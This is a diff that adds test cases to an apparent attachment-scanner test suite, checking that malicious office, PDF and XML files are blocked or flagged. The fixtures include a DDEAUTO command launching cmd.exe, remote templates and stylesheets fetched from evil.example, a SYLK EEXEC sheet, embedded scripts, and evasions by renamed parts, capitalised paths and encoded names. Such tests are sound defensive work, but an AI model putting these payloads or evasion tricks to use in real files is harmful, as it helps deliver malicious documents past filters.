@@ -115,6 +115,7 @@ _MACRO_XML = (
     '<?xml version="1.0"?><?mso-application progid="Word.Document"?>'
     '<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml" w:macrosPresent="yes"/>'
 )
+_WEB_ARCHIVE = b"MIME-Version: 1.0\nContent-Type: multipart/related\n\nContent-Type: application/x-mso\n"
 _DDE = ("DDEAUTO c:\\\\Windows\\\\cmd.exe", " /k calc")
 _RELATION_16 = offices.relation("attachedTemplate", "http://evil.example/a.dotm").replace("UTF-8", "UTF-16")
 _HIDDEN_TARGET = offices.relation("attachedTemplate", "&#104;ttp://evil.example/a.dotm")
@@ -174,6 +175,12 @@ MACROS = (
     Attached("A02", "relations with a DTD", "a.docx",
              lambda: offices.docx({"word/_rels/settings.xml.rels": '<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'}),
              SEALED, "ATT-611"),
+    Attached("A02", "DDE in a part of another name", "a.docx", offices.with_renamed_part, SEALED, "ATT-608"),
+    Attached("A02", "relations in capitals", "a.docx",
+             lambda: offices.docx({"word/_RELS/settings.xml.RELS": offices.relation("frame", "http://evil.example")}),
+             SEALED, "ATT-608"),
+    Attached("A02", "a web archive with macros named doc", "a.doc", _of(_WEB_ARCHIVE), SEALED, "ATT-608", ("ATT-607",)),
+    Attached("A02", "a symbolic link sheet named csv", "a.csv", _of(b"ID;PWXL;N;E\nC;X1;Y1;EEXEC(1)\n"), SEALED, "ATT-608"),
     Attached("A02", "a plain link", "a.docx", lambda: offices.related("hyperlink", "https://www.city.example/")),
     Attached("A02", "a template on the own disk", "a.docx",
              lambda: offices.related("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm")),
@@ -217,6 +224,8 @@ PDFS = (
     Attached("A03", "an object stream that cannot be read", "a.pdf",
              lambda: pdfs.build(pdfs.sound(o9=pdfs.stream(b"x", b"/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode"))),
              FLAGGED, "ATT-616"),
+    Attached("A03", "an object stream whose packing is escaped", "a.pdf", lambda: pdfs.build(
+        pdfs.sound(o9=_PACKED_ACTION.replace(b"/FlateDecode", b"/#46lateDecode"))), FLAGGED, "ATT-616"),
     Attached("A03", "encrypted PDF", "a.pdf", lambda: pdfs.build(pdfs.sound(), b"/Encrypt 9 0 R"), SEALED, "ATT-602"),
     Attached("A03", "encrypted PDF by its stream", "a.pdf",
              lambda: pdfs.with_xref_stream(pdfs.sound(), b"/Encrypt 9 0 R"), SEALED, "ATT-602"),
@@ -309,6 +318,8 @@ MARKUP = (
     Attached("A06", "SVG named xml", "a.xml", _of(_svg("<script>1</script>")), SEALED, "ATT-609", ("ATT-606",)),
     Attached("A06", "XML that becomes a page", "a.xml",
              _of(b'<a><b:script xmlns:b="http://www.w3.org/1999/xhtml">x()</b:script></a>'), SEALED, "ATT-609"),
+    Attached("A06", "XML that becomes a page behind a reference", "a.xml",
+             _of(b'<a><b:script xmlns:b="&#104;ttp://www.w3.org/1999/xhtml">x()</b:script></a>'), SEALED, "ATT-609"),
     Attached("A06", "XML with a style sheet", "a.xml", _of(b'<?xml-stylesheet href="http://evil.example/a.xsl"?><a/>'),
              SEALED, "ATT-609"),
     Attached("A06", "HTML with a script", "a.html", _of(_HTML), SEALED, "ATT-609", ("ATT-606",)),
